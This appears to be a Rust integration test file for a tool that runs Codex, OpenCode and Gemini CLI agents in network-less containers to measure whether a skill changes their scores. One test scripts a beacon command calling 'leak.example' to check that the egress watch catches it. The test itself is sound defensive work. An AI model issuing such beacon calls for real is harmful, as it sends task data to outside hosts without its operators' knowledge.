//! The real Codex, OpenCode and Gemini CLIs as an experiment's agent (and the pair check Claude
//! Code's test shares): each runs inside each trial's container (no network, Debian image: Codex
//! runs its commands in /bin/bash, OpenCode is a glibc binary whose skill tool needs ripgrep,
//! Gemini CLI a Node script with its own glibc Node), reaches the scripted model server only
//! through the relay to the host's key-adding proxy, finds the skill where it lists skills in the
//! with-skill arm and reads it its own way (Codex: a command; OpenCode: its skill tool; Gemini
//! CLI: `activate_skill`), and its run becomes a valid ATIF trajectory with that read marked.
//! The key never enters the container or any record. A provider that speaks another API is
//! refused before anything is queued.

use crate::common::*;
use serde_json::{json, Value};
use skillscope_api::agents::{self, AgentConfig};
use skillscope_api::harnesses::Harness;
use skillscope_api::Workspace;
use skillscope_models::{ApiKind, ProviderConfig};
use skillscope_modelserver::{Script, ServerOptions};

/// Runs one pair of the copy task with `harness` on a scripted server speaking `api`: without the
/// skill the model guesses (score 0); with it, the skill's listing reaches the model, which takes
/// `read_skill` and then copies (score 1). Checks the arms, the trajectories (tokens per model
/// response included) and the key; returns the with-skill trajectory and every request the
/// server received (method and path), the harness's only way out of its container.
pub(crate) fn skill_makes_the_difference(harness: Harness, api: ApiKind, read_skill: Value) -> (Value, Vec<String>) {
    join_session_keyring();
    let key = format!("sk-{}-canary-93e1a4c2", harness.as_str());
    let rt = rt();
    rt.block_on(debian_engine());
    let script: Script = serde_json::from_value(json!({
        "default": [{"tool": "bash", "args": {"command": "echo guess > answer.txt"}}, {"text": "guessed"}],
        "branches": [{"if_prompt_contains": "answer-keeper", "steps": [
            read_skill,
            {"tool": "bash", "args": {"command": "cat task.txt > answer.txt"}},
            {"text": "copied, as the skill says"}
        ]}]
    }))
    .unwrap();
    let server = rt
        .block_on(skillscope_modelserver::start(ServerOptions {
            script,
            require_key: Some(key.clone()),
            ..Default::default()
        }))
        .unwrap();

    let tmp = tempfile::tempdir().unwrap();
    let ws = Workspace::open(tmp.path().join("home")).unwrap();
    let config = cli_agent(&ws, harness, api, &server.base_url, Some(&key));
    let version = import_skill(&ws, tmp.path(), "answer-keeper", ANSWER_KEEPER);
    let (p, events) = run_one_pair(&ws, &rt, version, copy_task_on_debian(tmp.path()), config);
    assert!(p.excluded.is_empty(), "{:?}", p.excluded);
    assert_eq!((p.without.score, p.with.score), (Some(0.0), Some(1.0)), "the skill made the difference");
    assert_eq!(p.with.skills_listed.as_deref(), Some(&["answer-keeper".to_string()][..]));
    assert_eq!(p.without.skills_listed.as_deref(), Some(&[][..]));
    // Watched, neither arm's container sent anything besides the model calls: no telemetry,
    // update check, model list or plugin fetch.
    for arm in [&p.without, &p.with] {
        assert_eq!(arm.snapshot.as_ref().and_then(|s| s.egress.clone()), Some(Vec::new()), "{:?}", arm.snapshot);
    }

    let with = trajectory(&ws, p.with.trial_id);
    assert_eq!(skillscope_atif::validate(&with), Vec::new(), "{with}");
    assert_eq!(with["agent"]["name"], harness.as_str());
    assert_eq!(with["agent"]["version"], harness.version());
    let calls: Vec<&Value> = with["steps"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["tool_calls"].as_array().into_iter().flatten())
        .collect();
    assert_eq!(calls.len(), 2, "{with}");
    assert_eq!(calls[0]["extra"]["skill_read"], "answer-keeper", "the read is marked: {}", calls[0]);
    assert!(calls[1].get("extra").is_none(), "only the read is marked");
    assert!(with.to_string().contains("Copy task.txt to answer.txt with cat."), "the skill's body reached the agent");
    assert!(with["final_metrics"]["total_prompt_tokens"].as_u64().unwrap() > 0, "the harness's usage is kept");
    // The model calls' time, as the proxy measured it (these harnesses report none of their own).
    assert!(with["final_metrics"]["extra"]["model_ms"].as_u64().unwrap() > 0, "{}", with["final_metrics"]);
    for step in with["steps"].as_array().unwrap().iter().filter(|s| s["source"] == "agent") {
        assert!(step["metrics"]["prompt_tokens"].as_u64().unwrap() > 0, "tokens per model response: {step}");
    }
    let without = trajectory(&ws, p.without.trial_id);
    assert_eq!(skillscope_atif::validate(&without), Vec::new(), "{without}");
    assert!(!without.to_string().contains("answer-keeper"), "no skill in the without arm");
    assert_key_nowhere(&ws, &key, &[&with, &without], &events);
    let requests = server.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
    (with, requests)
}

#[test]
fn codex_runs_both_arms_in_the_sandbox_through_the_relay_and_proxy() {
    // Codex has no skill tool: the model reads the listed SKILL.md with a command.
    let read = json!({"tool": "bash", "args": {"command": "cat \"$CODEX_HOME/skills/answer-keeper/SKILL.md\""}});
    skill_makes_the_difference(Harness::Codex, ApiKind::OpenAiResponses, read);
}

#[test]
fn opencode_runs_both_arms_in_the_sandbox_through_the_relay_and_proxy() {
    let read = json!({"tool": "skill", "args": {"name": "answer-keeper"}});
    skill_makes_the_difference(Harness::OpenCode, ApiKind::OpenAiChat, read);
}

#[test]
fn gemini_runs_both_arms_in_the_sandbox_through_the_relay_and_proxy() {
    let read = json!({"tool": "activate_skill", "args": {"name": "answer-keeper"}});
    let (_, requests) = skill_makes_the_difference(Harness::Gemini, ApiKind::Gemini, read);
    // Three model calls per arm (the skill's arm: read, copy, answer; the other: guess, answer),
    // and nothing else: no model router, token count, telemetry or update check.
    let call = "POST /v1beta/models/model-test:streamGenerateContent?alt=sse";
    assert_eq!(requests, vec![call; 5], "{requests:#?}");
}

#[test]
fn what_a_harness_trial_sends_besides_its_model_calls_is_seen() {
    // The agent runs a command that looks a host up and sends it a request: in a container with no
    // network it could not leave, and the watch names both attempts in the arm's snapshot.
    join_session_keyring();
    let rt = rt();
    rt.block_on(debian_engine());
    let beacon = "python3 -c \"import urllib.request as u; u.urlopen('http://leak.example/beacon?task=copy', timeout=5)\"; cat task.txt > answer.txt";
    let script: Script = serde_json::from_value(json!({
        "default": [{"tool": "bash", "args": {"command": beacon}}, {"text": "copied"}]
    }))
    .unwrap();
    let server = rt.block_on(skillscope_modelserver::start(ServerOptions { script, ..Default::default() })).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let ws = Workspace::open(tmp.path().join("home")).unwrap();
    let config = cli_agent(&ws, Harness::OpenCode, ApiKind::OpenAiChat, &server.base_url, None);
    let version = import_skill(&ws, tmp.path(), "answer-keeper", ANSWER_KEEPER);
    let (p, _) = run_one_pair(&ws, &rt, version, copy_task_on_debian(tmp.path()), config);
    for arm in [&p.without, &p.with] {
        let egress = arm.snapshot.as_ref().and_then(|s| s.egress.clone()).expect("the trial was watched");
        assert!(egress.iter().any(|l| l.starts_with("DNS A leak.example")), "{egress:?}");
        assert!(egress.contains(&"HTTP GET leak.example/beacon?task=copy".to_string()), "{egress:?}");
    }
    // What the arm sent is its own, not a difference in what it ran with.
    assert!(p.excluded.is_empty(), "{:?}", p.excluded);
}

#[test]
fn codex_in_an_image_without_bash_says_what_it_needs() {
    let message = busybox_trial_message(Harness::Codex, ApiKind::OpenAiResponses);
    assert!(message.contains("Codex runs its commands with /bin/bash, which this image lacks"), "{message}");
}

#[test]
fn gemini_in_an_image_without_glibc_says_what_it_needs() {
    let message = busybox_trial_message(Harness::Gemini, ApiKind::Gemini);
    assert!(message.contains("Gemini CLI could not start in this image"), "{message}");
    assert!(message.contains("needs a glibc Linux image with libstdc++"), "{message}");
}

/// Saves a configuration of `harness` on a provider speaking `api`; returns the refusal.
fn refusal(harness: Harness, api: ApiKind) -> String {
    let tmp = tempfile::tempdir().unwrap();
    let ws = Workspace::open(tmp.path().join("home")).unwrap();
    agents::save_provider(&ws, &ProviderConfig::new("other", api, "http://127.0.0.1:9")).unwrap();
    let config = AgentConfig {
        id: 0,
        name: harness.as_str().into(),
        harness,
        provider_id: "other".into(),
        model: "m".into(),
        limits: Default::default(),
    };
    let err = agents::save_agent(&ws, &config).unwrap_err().to_string();
    assert!(agents::agents(&ws).unwrap().is_empty(), "nothing was saved");
    err
}

#[test]
fn codex_on_a_provider_of_another_api_is_refused_before_anything_runs() {
    let err = refusal(Harness::Codex, ApiKind::OpenAiChat);
    assert!(
        err.contains("codex speaks the OpenAI Responses API; provider other uses OpenAI Chat Completions"),
        "{err}"
    );
}

#[test]
fn gemini_on_a_provider_of_another_api_is_refused_before_anything_runs() {
    let err = refusal(Harness::Gemini, ApiKind::Anthropic);
    assert!(err.contains("gemini speaks the Gemini API; provider other uses Anthropic Messages"), "{err}");
}

/// Codex and OpenCode have no turn-limit setting: the proxy holds them to the configuration's
/// `max_turns` (here 1). The second model call is refused, and the run ends as a turn limit, not
/// as a harness failure, with the agent's outcome scored.
#[test]
fn the_proxy_holds_codex_and_opencode_to_the_turn_limit() {
    stop_at_one_turn(&[(Harness::Codex, ApiKind::OpenAiResponses), (Harness::OpenCode, ApiKind::OpenAiChat)]);
}

/// Gemini CLI keeps the configuration's `max_turns` (here 1) itself (`model.maxSessionTurns`):
/// it stops before its second model call, and the run ends as a turn limit, scored.
#[test]
fn gemini_keeps_the_turn_limit_itself() {
    stop_at_one_turn(&[(Harness::Gemini, ApiKind::Gemini)]);
}

/// Runs a pair of each harness with `max_turns` 1 on a script that needs two tool calls; each arm
/// must end as a turn limit, scored 0.
fn stop_at_one_turn(harnesses: &[(Harness, ApiKind)]) {
    join_session_keyring();
    let rt = rt();
    rt.block_on(debian_engine());
    let script: Script = serde_json::from_value(json!({"default": [
        {"tool": "bash", "args": {"command": "echo one > one.txt"}},
        {"tool": "bash", "args": {"command": "cat task.txt > answer.txt"}},
        {"text": "done"}
    ]}))
    .unwrap();
    let server = rt.block_on(skillscope_modelserver::start(ServerOptions { script, ..Default::default() })).unwrap();
    for &(harness, api) in harnesses {
        let tmp = tempfile::tempdir().unwrap();
        let ws = Workspace::open(tmp.path().join("home")).unwrap();
        // The queue's usual attempts: an infrastructure failure is retried as it is for users (a
        // Gemini arm once ended without a trajectory on a loaded CI machine, cause unseen); a turn
        // limit is the agent's outcome and is never retried.
        let id = cli_agent(&ws, harness, api, &server.base_url, None);
        let mut config = agents::agent(&ws, id).unwrap();
        config.limits.max_turns = 1;
        agents::save_agent(&ws, &config).unwrap();
        let version = import_skill(&ws, tmp.path(), "answer-keeper", ANSWER_KEEPER);
        let (p, _) = run_one_pair(&ws, &rt, version, copy_task_on_debian(tmp.path()), id);
        for arm in [&p.without, &p.with] {
            let t = trajectory(&ws, arm.trial_id);
            assert_eq!(t["extra"]["stop_reason"], "max_turns", "{harness:?}: {}", t["extra"]);
            assert_eq!(arm.score, Some(0.0), "{harness:?}: stopped before the copy, scored as the agent's outcome");
        }
    }
}

/// One experiment compares harnesses: a Codex and an OpenCode configuration on the same task and
/// skill are two columns of its results, each with its own pair and delta.
#[test]
fn one_experiment_compares_codex_and_opencode() {
    join_session_keyring();
    let rt = rt();
    rt.block_on(debian_engine());
    // Where each harness put the skill: Codex's home, or OpenCode's config folder.
    let read = "cat \"${CODEX_HOME:-$XDG_CONFIG_HOME/opencode}/skills/answer-keeper/SKILL.md\"";
    let script: Script = serde_json::from_value(json!({
        "default": [{"tool": "bash", "args": {"command": "echo guess > answer.txt"}}, {"text": "guessed"}],
        "branches": [{"if_prompt_contains": "answer-keeper", "steps": [
            {"tool": "bash", "args": {"command": read}},
            {"tool": "bash", "args": {"command": "cat task.txt > answer.txt"}},
            {"text": "copied"}
        ]}]
    }))
    .unwrap();
    let server = rt.block_on(skillscope_modelserver::start(ServerOptions { script, ..Default::default() })).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let ws = Workspace::open(tmp.path().join("home")).unwrap();
    let codex = cli_agent(&ws, Harness::Codex, ApiKind::OpenAiResponses, &server.base_url, None);
    let opencode = cli_agent(&ws, Harness::OpenCode, ApiKind::OpenAiChat, &server.base_url, None);
    let version = import_skill(&ws, tmp.path(), "answer-keeper", ANSWER_KEEPER);
    let (id, _) = run_experiment(&ws, &rt, version, vec![copy_task_on_debian(tmp.path())], vec![codex, opencode]);
    let report = skillscope_api::experiments::results(&ws, id).unwrap().report;
    let columns: Vec<(&str, f64)> = report.groups.iter().map(|g| (g.config.as_str(), g.delta)).collect();
    assert_eq!(columns, [("codex", 100.0), ("opencode", 100.0)], "{:#?}", report.groups);
}
